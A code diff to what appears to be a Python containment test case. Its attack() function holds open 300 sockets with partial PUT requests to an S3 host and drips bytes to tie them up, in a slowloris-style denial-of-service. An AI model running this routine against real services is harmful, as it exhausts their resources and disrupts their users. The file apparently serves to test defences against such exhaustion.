@@ -1,11 +1,11 @@
 """Begins hundreds of requests to its private AWS and ends none of them, a byte at a time.
 
 kind: exhaust
-says: stopped at its limit of 2 seconds
+says: requests that it began
+seconds: 10
 strong: holds
 partial: holds
 none: holds
-never returns.
 """
 
 import contextlib
@@ -21,8 +21,10 @@ def attack():
         for _ in range(300):
             kept.append(socket.create_connection(address, timeout=1))
             kept[-1].sendall(b"PUT /slow/x HTTP/1.1\r\nHost: s3.amazonaws.com\r\nContent-Length: 99999999\r\nX-")
-    while True:
+    for _ in range(20):
         for connection in kept:
             with contextlib.suppress(OSError):
                 connection.sendall(b"a")
         time.sleep(0.01)
+    print("requests that it began:", len(kept))
+    globals()["kept"] = kept  # they stay open after the call
